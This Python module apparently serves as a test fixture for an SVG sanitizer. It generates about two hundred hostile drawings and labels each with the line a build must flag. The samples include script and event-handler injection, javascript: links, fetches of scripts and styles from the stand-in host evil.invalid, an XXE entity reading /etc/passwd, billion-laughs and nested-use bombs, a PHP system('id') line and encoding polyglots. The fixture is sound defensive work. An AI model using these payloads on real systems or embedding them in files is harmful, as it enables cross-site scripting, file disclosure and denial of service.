"""Drawings that would run, load, leak or burst, by kind; each with the line at which the build has to name it."""

import base64
import gzip
from collections.abc import Iterator

SVG = 'xmlns="http://www.w3.org/2000/svg" xmlns:xlink="http://www.w3.org/1999/xlink"'
XHTML = "http://www.w3.org/1999/xhtml"
EVIL = "http://evil.invalid"
PIXEL = base64.b64encode(
    bytes.fromhex(
        "89504E470D0A1A0A0000000D49484452000000010000000108060000001F15C489"
        "0000000B4944415478DA636000020000050001E9FADCD80000000049454E44AE426082"
    )
).decode()


def svg(inside: str, *, root: str = "", before: str = "") -> bytes:
    """Return a drawing with something in its second line."""
    return f'{before}<svg {SVG} viewBox="0 0 9 9"{root}>\n{inside}\n</svg>'.encode()


def _billion() -> str:
    levels = "".join(f'<!ENTITY l{level} "{f"&l{level - 1};" * 10}">' for level in range(1, 10))
    return f'<!DOCTYPE svg [<!ENTITY l0 "lol">{levels}]>'


def _copies() -> str:
    """Return ten lines that make a milliard of shapes."""
    levels = (f'<g id="c{level}">{f"""<use href="#c{level - 1}"/>""" * 10}</g>' for level in range(1, 10))
    return '<path id="c0" d="M0 0h9"/>' + "".join(levels)


_LINE_2 = {
    # Elements
    "a script": "<script>alert(1)</script>",
    "a script with a prefix": '<a-b:script xmlns:a-b="http://www.w3.org/2000/svg">alert(1)</a-b:script>',
    "a script of HTML": f'<script xmlns="{XHTML}">alert(1)</script>',
    "a script of HTML with a prefix": f'<h:script xmlns:h="{XHTML}" src="{EVIL}/a.js"/>',
    "a script in a note": '<metadata><rdf:RDF xmlns:rdf="http://www.w3.org/1999/02/22-rdf-syntax-ns#">'
    "<script>alert(1)</script></rdf:RDF></metadata>",
    "a script in capitals": "<SCRIPT>alert(1)</SCRIPT>",
    "a script elsewhere": f'<script xlink:href="{EVIL}/a.js"/>',
    "a script in a title": "<title><script>alert(1)</script></title>",
    "a handler": '<handler type="application/ecmascript" xmlns:ev="http://www.w3.org/2001/xml-events"'
    ' ev:event="load">alert(1)</handler>',
    "a listener": '<ev:listener xmlns:ev="http://www.w3.org/2001/xml-events" event="load" handler="#a"/>',
    "foreign content": f'<foreignObject width="9" height="9"><body xmlns="{XHTML}" onload="alert(1)"/></foreignObject>',
    "an empty frame for foreign content": "<foreignObject/>",
    "a picture of HTML": f'<h:img xmlns:h="{XHTML}" srcset="{EVIL}/a.png 1x"/>',
    "a frame of HTML": f'<iframe xmlns="{XHTML}" srcdoc="&lt;script>alert(1)&lt;/script>"/>',
    "an object of HTML": f'<object xmlns="{XHTML}" data="{EVIL}/a.html"/>',
    "a link element of HTML": f'<link xmlns="{XHTML}" rel="stylesheet" href="{EVIL}/a.css"/>',
    "a base of HTML": f'<base xmlns="{XHTML}" href="{EVIL}/"/>',
    "a refresh of HTML": f'<meta xmlns="{XHTML}" http-equiv="refresh" content="0;url={EVIL}/"/>',
    "a form of HTML": f'<form xmlns="{XHTML}" action="{EVIL}/"><button>Press</button></form>',
    "a style of HTML": f'<style xmlns="{XHTML}">@import "{EVIL}/a.css";</style>',
    "a video": f'<video xlink:href="{EVIL}/a.mp4"/>',
    "a sound": f'<audio href="{EVIL}/a.mp3"/>',
    "a film of SVG Tiny": f'<animation xlink:href="{EVIL}/a.svg"/>',
    "a prefetch of SVG Tiny": f'<prefetch xlink:href="{EVIL}/a.svg"/>',
    "words from elsewhere": f'<text><tref xlink:href="{EVIL}/a.svg#a"/></text>',
    "a colour profile": f'<color-profile name="p" xlink:href="{EVIL}/a.icc"/>',
    "a cursor": f'<cursor xlink:href="{EVIL}/a.cur"/>',
    "a font's address": f'<font-face><font-face-src><font-face-uri xlink:href="{EVIL}/a.svg#f"/></font-face-src>'
    "</font-face>",
    "an inclusion": f'<xi:include xmlns:xi="http://www.w3.org/2001/XInclude" href="{EVIL}/a.svg"/>',
    "mathematics": '<math xmlns="http://www.w3.org/1998/Math/MathML"><maction actiontype="statusline#x"/></math>',
    "a binding": '<binding xmlns="http://www.mozilla.org/xbl" id="b"><handlers/></binding>',
    "a transformation": '<xsl:stylesheet xmlns:xsl="http://www.w3.org/1999/XSL/Transform" version="1.0"/>',
    "an element of no namespace": '<script xmlns="">alert(1)</script>',
    "an element of an own namespace": '<x:thing xmlns:x="urn:thing"/>',
    "something that discards": '<discard begin="0s"/>',
    # Events
    "a press": '<path d="M0 0h9" onclick="alert(1)"/>',
    "a press in odd case": '<path d="M0 0h9" OnClick="alert(1)"/>',
    "an event of the future": '<path d="M0 0h9" onwhatever="alert(1)"/>',
    "the beginning of a motion": '<path d="M0 0h9"><animate attributeName="x" onbegin="alert(1)" dur="1s"/></path>',
    "a picture that is not there": '<image href="#" onerror="alert(1)"/>',
    "an event in a note": '<sodipodi:namedview xmlns:sodipodi="http://sodipodi.sourceforge.net/DTD/sodipodi-0.dtd"'
    ' onfocus="alert(1)"/>',
    "an event with a prefix": f'<path d="M0 0h9" h:onclick="alert(1)" xmlns:h="{XHTML}"/>',
    # Addresses
    "a script in a link": '<a href="javascript:alert(1)"><path d="M0 0h9"/></a>',
    "a script in an old link": '<a xlink:href="javascript:alert(1)"><path d="M0 0h9"/></a>',
    "a script written with a tab": '<a xlink:href="java&#x09;script:alert(1)"><path d="M0 0h9"/></a>',
    "a script behind a blank": '<a href=" &#1234;javascript:alert(1)"><path d="M0 0h9"/></a>',
    "a link under another prefix": '<a l:href="data:text/html,x" xmlns:l="http://www.w3.org/1999/xlink"><g/></a>',
    "a link to a host": f'<a href="{EVIL}/"><path d="M0 0h9"/></a>',
    "a link to a mailbox": '<a href="mailto:a@evil.invalid"><path d="M0 0h9"/></a>',
    "a link to a neighbour": '<a href="other.svg"><path d="M0 0h9"/></a>',
    "a link behind a hard space": '<a href="\u00a0#x"><path d="M0 0h9"/></a>',
    "an empty address": '<use href=""/>',
    "a copy from elsewhere": f'<use href="{EVIL}/a.svg#a"/>',
    "a copy from a neighbour": '<use xlink:href="other.svg#a"/>',
    "a copy from data": '<use href="data:image/svg+xml;base64,PHN2Zy8+#a"/>',
    "a gradient from elsewhere": f'<linearGradient id="g" href="{EVIL}/a.svg#g"/>',
    "a path from elsewhere": f'<text><textPath href="{EVIL}/a.svg#p">Words</textPath></text>',
    "a picture elsewhere": f'<image href="{EVIL}/a.png"/>',
    "an old picture elsewhere": f'<image xlink:href="{EVIL}/a.png"/>',
    "a picture without a scheme": '<image href="//evil.invalid/a.png"/>',
    "a picture on a disk": '<image href="file:///etc/hostname"/>',
    "a picture in the parent folder": '<image href="../secret.png"/>',
    "a filter's picture elsewhere": f'<filter id="f"><feImage href="{EVIL}/a.png"/></filter>',
    "a drawing inside": '<image href="data:image/svg+xml;base64,PHN2Zy8+"/>',
    "a drawing inside in plain words": '<image href="data:image/svg+xml,%3Csvg/%3E"/>',
    "a page inside": '<image href="data:text/html;base64,PHA+"/>',
    "a page that says it is a picture": '<image href="data:image/png;base64,PGh0bWw+PC9odG1sPg=="/>',
    "a picture inside with letters outside ASCII": f'<image href="data:image/png;base64,{PIXEL[:40]}é{PIXEL[40:]}"/>',
    "a picture inside that is cut off": f'<image href="data:image/png;base64,{PIXEL[:80]}"/>',
    "another base": f'<g xml:base="{EVIL}/"><use href="#a"/></g>',
    "a source": f'<image src="{EVIL}/a.png"/>',
    "a set of sources": f'<image srcset="{EVIL}/a.png 1x"/>',
    "a ping": f'<a href="#a" ping="{EVIL}/"><path d="M0 0h9"/></a>',
    "an address in a note": '<inkscape:grid xmlns:inkscape="http://www.inkscape.org/namespaces/inkscape"'
    f' href="{EVIL}/"/>',
    "a place on the disk": '<g inkscape:export-filename="/home/anna/secret/a.png"'
    ' xmlns:inkscape="http://www.inkscape.org/namespaces/inkscape"/>',
    # Motion
    "a link that becomes a script": '<a href="#"><set attributeName="href" to="javascript:alert(1)"/></a>',
    "a link that becomes a script with a tab": '<a><set attributeName="href" to="java&#x09;script:alert(1)"/></a>',
    "an old link that becomes a script": '<a><animate attributeName="xlink:href" values="javascript:alert(1);a"/></a>',
    "a link under another prefix that changes": '<a xmlns:y="http://www.w3.org/1999/xlink">'
    '<animate attributeName="y:href" from="javascript:alert(1)" to="#"/></a>',
    "an event that is set": '<path d="M0 0h9"><set attributeName="onclick" to="alert(1)"/></path>',
    "a style that is set": f'<path d="M0 0h9"><set attributeName="style" to="fill:url({EVIL})"/></path>',
    "an address that changes behind a blank": '<a><set attributeName=" href" to="javascript:alert(1)"/></a>',
    "a colour that becomes an address": f'<path d="M0 0h9"><set attributeName="fill" to="url({EVIL}/a.svg#a)"/></path>',
    "a filter among values": f'<g><animate attributeName="filter" values="none;url({EVIL}/a.svg#f)" dur="1s"/></g>',
    # Styles
    "an import": f'<style>@import "{EVIL}/a.css";</style>',
    "an import in capitals": f"<style>@IMPORT url({EVIL}/a.css);</style>",
    "an import with an escape": f'<style>@\\69mport "{EVIL}/a.css";</style>',
    "a page in the CDATA of a title": '<title><![CDATA[><img src="x" onerror="alert(1)">]]></title>',
    "words that turn the direction of reading": "<text>to \u202ehtaed\u202c life</text>",
    "words that turn it, as an entity": "<text>to &#x202e;htaed life</text>",
    "a name that turns the direction of reading": '<g aria-label="to \u2067htaed"/>',
    "an import cut by CDATA": f'<style>@im<![CDATA[port "{EVIL}/a.css";]]></style>',
    "an import cut by a comment": f'<style>@im<!-- -->port "{EVIL}/a.css";</style>',
    "an import in references": f'<style>&#64;&#x69;mport "{EVIL}/a.css";</style>',
    "an import in a layer": f'<style>@layer a; @import "{EVIL}/a.css" layer(b);</style>',
    "a namespace": f'<style>@namespace h "{EVIL}";</style>',
    "a rule of Mozilla": f'<style>@-moz-document url-prefix("{EVIL}") {{}}</style>',
    "a font elsewhere": f'<style>@font-face {{ font-family: F; src: url("{EVIL}/a.woff2"); }}</style>',
    "a colour with an escape": f"<style>path {{ fill: u\\72l({EVIL}/a.svg#a); }}</style>",
    "an address in a variable": f"<style>path {{ --a: url({EVIL}/a.svg); fill: var(--a); }}</style>",
    "an address in an unknown property": f"<style>path {{ -x-thing: url({EVIL}/a.svg); }}</style>",
    "an address that never closes": f"<style>path {{ fill: url({EVIL}/a.svg</style>",
    "a set of pictures": f'<style>svg {{ background: image-set("{EVIL}/a.png" 1x); }}</style>',
    "an old set of pictures": f'<style>svg {{ background: -webkit-image-set("{EVIL}/a.png" 1x); }}</style>',
    "a source function": f'<style>svg {{ background: src("{EVIL}/a.png"); }}</style>',
    "a picture function": f'<style>svg {{ background: image("{EVIL}/a.png"); }}</style>',
    "a mixture": f'<style>svg {{ background: cross-fade("{EVIL}/a.png", red); }}</style>',
    "a painted element": "<style>svg { background: element(#a); }</style>",
    "a painter": "<style>svg { background: paint(worklet); }</style>",
    "an expression": "<style>path { width: expression(alert(1)); }</style>",
    "an attribute as address": "<style>path { fill: attr(data-a type(&lt;url&gt;)); }</style>",
    "a page as address": "<style>svg { background: url(data:text/html,x); }</style>",
    "a drawing as address": "<style>svg { background: url(data:image/svg+xml;base64,PHN2Zy8+); }</style>",
    "an element in a style": f"<style><a/>@import '{EVIL}/a.css';</style>",
    "a style in another language": '<style type="text/xsl">a</style>',
    "brackets without end": f"<style>path {{ fill: {'(' * 1000} }}</style>",
    "a number without end": f"<style>path {{ width: {'1' * 5000}px }}</style>",
    "an address in a style attribute": f'<path d="M0 0h9" style="fill:url({EVIL}/a.svg#a)"/>',
    "an escaped address in a style attribute": f'<path d="M0 0h9" style="fill:\\75 rl({EVIL}/a.svg#a)"/>',
    "an address cut by a comment": f'<path d="M0 0h9" style="fill:ur/**/l({EVIL}/a);mask:url(//evil.invalid)"/>',
    "a binding in a style": f'<path d="M0 0h9" style="-moz-binding:url({EVIL}/a.xml#b)"/>',
    "a behaviour in a style": '<path d="M0 0h9" style="behavior:url(a.htc)"/>',
    "a cursor in a style": f'<path d="M0 0h9" style="cursor:url({EVIL}/a.cur),auto"/>',
    "a cursor in an attribute": f'<path d="M0 0h9" cursor="url({EVIL}/a.cur),auto"/>',
    "a fill": f'<path d="M0 0h9" fill="url({EVIL}/a.svg#a)"/>',
    "a fill of a neighbour": '<path d="M0 0h9" fill="url(other.svg#a)"/>',
    "a fill with an escape": f'<path d="M0 0h9" fill="\\55RL(&quot;{EVIL}/a.svg#a&quot;)"/>',
    "a filter": f'<path d="M0 0h9" filter="url({EVIL}/a.svg#f)"/>',
    "a mask": f'<path d="M0 0h9" mask="url({EVIL}/a.svg#m)"/>',
    "a path to clip with": f'<path d="M0 0h9" clip-path="url({EVIL}/a.svg#c)"/>',
    "a marker": f'<path d="M0 0h9" marker-start="url({EVIL}/a.svg#m)"/>',
    # What bursts
    "a milliard of copies": _copies(),
    "styles without end": f"<style>{'a{}' * 400_000}</style>",
    "elements in elements": "<g>" * 300 + "</g>" * 300,
    "a hundred thousand levels": "<g>" * 100_000,
    # What is no drawing
    "an instruction inside": '<?xml-stylesheet type="text/css" href="http://evil.invalid/a.css"?>',
    "a program of PHP": "<?php system('id'); ?>",
    "a name that stands for nothing": "<text>&evil;</text>",
    "a prefix of nothing": "<x:path/>",
    "an element that never closes": "<g>",
}
_LINE_1 = {
    "a document type with attributes": svg("<path/>", before='<!DOCTYPE svg [<!ATTLIST svg onload CDATA "alert(1)">]>'),
    "a document type with attributes for links": svg(
        "<a/>", before='<!DOCTYPE svg [<!ATTLIST a href CDATA "javascript:alert(1)">]>'
    ),
    "an entity": svg("<text>&a;</text>", before='<!DOCTYPE svg [<!ENTITY a "<script>alert(1)</script>">]>'),
    "an entity in an address": svg('<a href="&a;"/>', before='<!DOCTYPE svg [<!ENTITY a "javascript:alert(1)">]>'),
    "an entity in a file": svg("<text>&a;</text>", before='<!DOCTYPE svg [<!ENTITY a SYSTEM "file:///etc/passwd">]>'),
    "a parameter entity": svg("", before=f'<!DOCTYPE svg [<!ENTITY % a SYSTEM "{EVIL}/a.dtd"> %a;]>'),
    "a notation": svg("", before=f'<!DOCTYPE svg [<!NOTATION n SYSTEM "{EVIL}/n">]>'),
    "half a million of elements": svg("<g/>" * 500_001),
    "an empty document type": svg("", before="<!DOCTYPE svg []>"),
    "a milliard of laughs": svg("<text>&l9;</text>", before=_billion()),
    "a document type elsewhere": svg("", before=f'<!DOCTYPE svg SYSTEM "{EVIL}/a.dtd">'),
    "a known document type elsewhere": svg(
        "", before=f'<!DOCTYPE svg PUBLIC "-//W3C//DTD SVG 1.1//EN" "{EVIL}/svg11.dtd">'
    ),
    "the document type of HTML": svg("", before="<!DOCTYPE html>"),
    "the document type of XHTML": svg(
        "&nbsp;",
        before='<!DOCTYPE svg PUBLIC "-//W3C//DTD XHTML 1.0 Strict//EN" "http://www.w3.org/TR/xhtml1/DTD/xhtml1.dtd">',
    ),
    "a sheet of styles": svg("", before=f'<?xml-stylesheet href="{EVIL}/a.css"?>'),
    "a transforming sheet": svg("", before=f'<?xml-stylesheet type="text/xsl" href="{EVIL}/a.xsl"?>'),
    "an event of the whole drawing": svg("", root=' onload="alert(1)"'),
    "an event of the whole drawing in odd case": svg("", root=' ONLOAD="alert(1)"'),
    "a style of the whole drawing": svg("", root=f' style="background:url({EVIL}/a.png)"'),
    "a base of the whole drawing": svg("", root=f' xml:base="{EVIL}/"'),
    "UTF-7": svg("+ADw-script+AD4-alert(1)+ADw-/script+AD4-", before='<?xml version="1.0" encoding="UTF-7"?>'),
    "a Japanese encoding": svg("<path/>", before='<?xml version="1.0" encoding="ISO-2022-JP"?>'),
    "XML 1.1": svg("<path/>", before='<?xml version="1.1"?>'),
    "a drawing in HTML": b'<html><body><svg onload="alert(1)"/></body></html>',
    "a page of XHTML": f'<html xmlns="{XHTML}"><script>alert(1)</script></html>'.encode(),
    "a drawing without a namespace": b'<svg viewBox="0 0 9 9"><script>alert(1)</script></svg>',
    "a drawing of another namespace": b'<svg xmlns="http://www.w3.org/2000/SVG"><script>alert(1)</script></svg>',
    "a drawing and a GIF": b'GIF89a/*<svg xmlns="http://www.w3.org/2000/svg"><script>alert(1)</script></svg>',
    "a drawing and HTML": b'<!--><script>alert(1)</script>--><svg xmlns="http://www.w3.org/2000/svg"/>',
    "a PDF": b"%PDF-1.4 <svg/>",
    "an e-mail": b'MIME-Version: 1.0\n\n<svg xmlns="http://www.w3.org/2000/svg"/>',
}
_LINE_3 = {
    "a script behind the end": svg("<path/>") + b"<script>alert(1)</script>",
    "a second drawing": svg("<path/>") + svg("<path/>"),
    "an attribute in the next line": svg("<path\n onclick='alert(1)'/>"),
    "a rule in the next line": svg(f"<style>\n@import '{EVIL}';</style>"),
    "a rule behind another in CDATA": svg(f"<style>path {{}} <![CDATA[\n a {{ fill: url({EVIL}) }} ]]></style>"),
}
_NO_LINE = {
    "UTF-16 with a mark": svg("<script>alert(1)</script>").decode().encode("utf-16"),
    "UTF-16 of the other order": b"\xfe\xff" + svg("<script>alert(1)</script>").decode().encode("utf-16-be"),
    "UTF-32": svg("<script>alert(1)</script>").decode().encode("utf-32"),
    "Latin-1": svg("<title>Café</title><script>alert(1)</script>").decode().encode("latin-1"),
    "compressed": gzip.compress(svg("<script>alert(1)</script>"), mtime=0),
    "many bytes": svg(f"<path d='{'M0 0h9' * 1_000_000}'/>"),
    "nothing": b"",
    "blanks": b" \n",
    "a pointer of Git LFS": b"version https://git-lfs.github.com/spec/v1\noid sha256:0\nsize 9\n",
}
_ELSEWHERE = {"an element that never closes": 3}


def hostile() -> Iterator[tuple[str, bytes, int]]:
    """Yield the kind of each drawing, its content, and the line that is to be named; 0 for the file as a whole."""
    for kind, inside in _LINE_2.items():
        yield kind, svg(inside), _ELSEWHERE.get(kind, 2)
    for line, drawings in ((1, _LINE_1), (3, _LINE_3), (0, _NO_LINE)):
        for kind, content in drawings.items():
            yield kind, content, line
